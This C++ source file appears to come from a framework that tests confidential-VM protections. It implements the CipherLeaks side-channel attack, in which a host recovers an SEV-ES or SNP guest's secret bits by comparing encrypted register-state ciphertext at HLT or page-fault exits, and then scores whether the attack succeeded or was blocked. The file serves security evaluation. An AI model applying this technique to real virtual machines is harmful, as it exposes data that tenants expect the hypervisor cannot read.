#include "attacks/cipherleaks.h"

#include <fmt/format.h>

#include <algorithm>
#include <array>
#include <set>

#include "attacks/fn_guest.h"
#include "hw/svm/vmcb.h"

namespace cbit::attacks {
namespace {

constexpr uint64_t kPages[2] = {0x207000, 0x208000};  // the NPF variant's two data pages
using Block = std::array<uint8_t, 16>;

// RAX at step i: 0 at the first exit (a public loop state), then one secret bit per step.
uint64_t rax_at(unsigned i, uint64_t secret) { return i == 0 ? 0 : (secret >> (i - 1)) & 1; }

// HLT variant: one step per VMRUN.
FnGuest hlt_guest(unsigned& step, uint64_t secret) {
  return FnGuest([&step, secret](GuestCpu& cpu) {
    cpu.regs().rax = rax_at(step++, secret);
    // returning = HLT, an automatic exit under SEV-ES
  });
}

// NPF variant: a first run accepts the two pages (SNP: PVALIDATE; nothing otherwise) and halts;
// then all steps in one VMRUN, each a store to one of two pages.
FnGuest npf_guest(unsigned& step, uint64_t secret) {
  return FnGuest([&step, secret, accepted = false](GuestCpu& cpu) mutable {
    if (!accepted) {
      accepted = true;
      guest_accept_memory(cpu, {kPages[0], kPages[1]});
      return;
    }
    for (unsigned i = 0; i <= kCipherLeaksBits; ++i, ++step) {
      cpu.regs().rax = rax_at(i, secret);
      cpu.write<uint64_t>(VirtAddr(kPages[i % 2]), i);
    }
  });
}

}  // namespace

SevAttackResult cipherleaks(HostAttacker& attacker, SevMode mode, uint64_t secret,
                            CipherLeaksExit via) {
  SevAttackResult r;
  r.attack = "cipherleaks";
  r.mode = mode;
  secret &= (1ull << kCipherLeaksBits) - 1;
  auto vm = attacker.hypervisor().launch_vm(mode);
  const bool es = mode == SevMode::SevEs || mode == SevMode::Snp;  // protected guest state
  const auto rax_block = [&](sw::hv::Vm& v) {
    const Bytes b =
        attacker.read_as_stored(SysPhysAddr(v.vcpu().vmsa_pa().value + kCipherLeaksRaxBlock), 16);
    Block out{};
    std::copy_n(b.begin(), out.size(), out.begin());
    return out;
  };

  // The hypervisor's observation at one exit: the bit, from RAX or from the ciphertext.
  std::vector<uint64_t> seen;
  Block ref{};  // the ciphertext of the known first value
  std::set<Block> distinct;
  std::string how;
  const auto observe = [&](sw::hv::Vcpu& vcpu) {
    hw::GprFile regs{};
    uint64_t bit;
    if (vcpu.get_regs(&regs) == 0) {
      bit = regs.rax & 1;  // the plaintext register: nothing to infer
      how = "RAX via KVM_GET_REGS";
    } else {
      const Block ct = rax_block(*vm);
      distinct.insert(ct);
      if (seen.empty()) ref = ct;
      bit = ct != ref;  // the known value (0) or not
      how = "VMSA ciphertext compare";
    }
    seen.push_back(bit);
  };

  unsigned step = 0;
  const char* exit_name = via == CipherLeaksExit::Hlt ? "HLT" : "#NPF";
  if (via == CipherLeaksExit::Hlt) {
    FnGuest guest = hlt_guest(step, secret);
    for (unsigned i = 0; i <= kCipherLeaksBits; ++i) {
      const auto exit = vm->run(guest);
      if (exit.code != hw::svm::exit_code::kHlt) break;
      observe(vm->vcpu());
    }
  } else {
    SysPhysAddr spa[2];
    for (int i = 0; i < 2; ++i) spa[i] = *vm->memory().gpa_to_spa(GuestPhysAddr(kPages[i]));
    vm->on_npf = [&](sw::hv::Vcpu& vcpu, uint64_t gpa, uint64_t) {
      const int which = (gpa & ~0xfffull) == kPages[0] ? 0 : 1;
      if ((gpa & ~0xfffull) != kPages[which]) return false;
      observe(vcpu);
      vm->npt().map_page(GuestPhysAddr(kPages[which]), spa[which], true, true);
      vm->npt().unmap_page(GuestPhysAddr(kPages[1 - which]));
      return true;
    };
    FnGuest guest = npf_guest(step, secret);
    vm->run(guest);  // the pages accepted, before the hypervisor unmaps them
    for (int i = 0; i < 2; ++i) vm->npt().unmap_page(GuestPhysAddr(kPages[i]));
    vm->run(guest);
    vm->on_npf = nullptr;
  }

  auto& ev = r.evidence;
  ev["exit"] = exit_name;
  ev["exits_observed"] = seen.size();
  if (seen.size() != kCipherLeaksBits + 1) {
    r.verdict = Verdict::Error;
    r.got = "guest stopped";
    r.detail =
        fmt::format("{} of {} {} exits observed", seen.size(), kCipherLeaksBits + 1, exit_name);
    return r;
  }
  uint64_t recovered = 0;
  for (unsigned i = 1; i < seen.size(); ++i) recovered |= seen[i] << (i - 1);
  const unsigned right =
      kCipherLeaksBits - static_cast<unsigned>(__builtin_popcountll(recovered ^ secret));
  ev["method"] = how;
  ev["secret"] = fmt::format("{:#010x}", secret);
  ev["recovered"] = fmt::format("{:#010x}", recovered);
  ev["bits_recovered"] = right;
  ev["bits_total"] = kCipherLeaksBits;
  if (es) {
    ev["distinct_ciphertexts"] = distinct.size();
    ev["ciphertext_rax0"] = hex_of(ref);
    // Control: another VMSA (another address, another key) with the same RAX = 0.
    auto other = attacker.hypervisor().launch_vm(mode);
    unsigned other_step = 0;
    FnGuest g2 = hlt_guest(other_step, 0);
    other->run(g2);
    const Block other_ct = rax_block(*other);
    ev["control_other_vmsa_rax0"] = hex_of(other_ct);
    ev["control_same_ciphertext"] = other_ct == ref;
  }
  r.verdict = right == kCipherLeaksBits ? Verdict::Succeeded : Verdict::Blocked;
  r.got = fmt::format("{}/{} bits{}", right, kCipherLeaksBits, es ? " (ciphertext)" : " (RAX)");
  r.detail = fmt::format("{} at {} {} exits: recovered {:#010x}, secret {:#010x}", how, seen.size(),
                         exit_name, recovered, secret);
  return r;
}

}  // namespace cbit::attacks
